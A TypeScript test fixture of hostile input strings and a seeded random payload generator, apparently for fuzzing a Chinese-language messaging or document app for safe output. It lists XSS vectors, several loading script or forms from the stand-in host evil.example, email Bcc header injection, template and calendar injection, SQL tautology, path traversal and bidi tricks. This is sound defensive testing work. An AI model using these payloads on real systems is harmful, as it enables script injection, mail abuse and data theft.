/** What people who mean harm, or paste carelessly, put into names and texts; and a stream of worse, drawn by a seed. */

const MARKUP = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script src=//evil.example/x.js></script>",
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '</title><script>alert(1)</script>',
  '</td></tr></table><form action=//evil.example><input name=p>',
  '</textarea></style><svg onload=alert(1)>',
  '<a href="javascript:alert(1)">办理</a>',
  '<a href="https://evil.example">办理（签收、报送）</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(//evil.example)}</style>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '&lt;script&gt;&#60;script&#62;',
  '＜script＞alert(1)＜/script＞',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p style="display:none">',
];

const HEADERS = [
  '甲\r\nBcc: all@evil.example',
  '甲\nBcc: all@evil.example',
  '甲\rBcc: all@evil.example',
  '甲\r\n\r\n<script>alert(1)</script>',
  '甲\u0000乙',
  '甲\u2028Bcc: all@evil.example',
  '甲\u0085Bcc: all@evil.example',
  '甲 <all@evil.example>',
  '甲, all@evil.example',
  '"甲" <all@evil.example>, "乙',
  '甲;all@evil.example;',
  '=?utf-8?B?Qmz=?= =?utf-8?Q?=0D=0ABcc:_x@evil.example?=',
  '甲\r\n Content-Type: text/html',
  '--boundary\r\nContent-Type: text/html\r\n\r\n<b>',
  'a'.repeat(1_200),
  '督'.repeat(1_200),
  '甲\t乙\v丙\f丁',
];

const TEMPLATES = [
  '{{ you }}',
  '{% if true %}',
  '{{ 7 | times: 7 }}',
  '{%- raw -%}',
  '${process.env}',
  '# 一、标题',
  '| 一 | 二 |',
  '~ 说明',
  '@ 各单位：',
  '+ 办理|https://evil.example',
  '\uE000\uE001\uE0020\uE002',
  '[letter]',
];

const CALENDARS = [
  'X\r\nBEGIN:VALARM\r\nACTION:EMAIL',
  'X\nATTENDEE:mailto:all@evil.example',
  'X;ALTREP="https://evil.example":Y',
  'X\\nEND:VEVENT',
  'a,b;c:d\\e"f^g',
];

const TEXT = [
  '\u202Egnp.exe\u202C',
  '\u2066甲\u2069',
  '甲\u200B\u200C\u200D\uFEFF乙',
  'ﷺ'.repeat(30),
  'e\u0301'.repeat(60),
  '👩‍👩‍👧‍👦🇨🇳',
  '\uD83D',
  '\uDE00甲',
  '=1+1',
  '@SUM(A1)',
  "' or 1=1 --",
  '../../etc/passwd',
  '%00%0d%0a',
  'constructor',
  '__proto__',
  '\u001b[31m红\u001b[0m',
  '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
];

const ALL = [...MARKUP, ...HEADERS, ...TEMPLATES, ...CALENDARS, ...TEXT];

/** Each by itself, in the middle of decent words, and behind a line break. */
export const PAYLOADS: string[] = ALL.flatMap((payload) => [payload, `省财政${payload}厅`, `甲\r\n${payload}`]);

const PIECES = [
  '<',
  '>',
  '"',
  "'",
  '&',
  '`',
  '\r',
  '\n',
  '\0',
  '\u2028',
  '\u001b',
  '\uD800',
  '\uE001',
  '{{',
  '{%',
  '%}',
  '|',
].concat(
  [
    '#',
    '~',
    '@',
    ':',
    ';',
    ',',
    '\\',
    '/',
    '=',
    '?=',
    '--',
    '<!--',
    '-->',
    '<b',
    ' on',
    'x=',
    'style',
    'src=',
    '//e.example',
  ],
  ['督', '办', ' ', '　', '\t', 'a', '0', '&#10;', '%0a', '\u202E', '\u200B', '😀'],
);

/** So many texts of random pieces; the same seed gives the same. */
export function randomPayloads(seed: number, count: number): string[] {
  let state = seed >>> 0;
  const next = (below: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + next(24) }, () => PIECES[next(PIECES.length)]).join(''),
  );
}

/** Elements with the names of their attributes, in order: what a page is made of, whatever words stand in it. */
export function skeleton(html: string): string[] {
  return [
    ...html.matchAll(/<(\/?[a-z!][a-z0-9-]*)((?:\s+[^\s"'>=/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?)*)\s*\/?>/gi),
  ].map(([, name = '', attributes = '']) => {
    const names = [...attributes.matchAll(/([^\s"'>=/]+)(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?/g)].map(
      ([, one]) => one,
    );
    return [name.toLowerCase(), ...names].join(' ');
  });
}
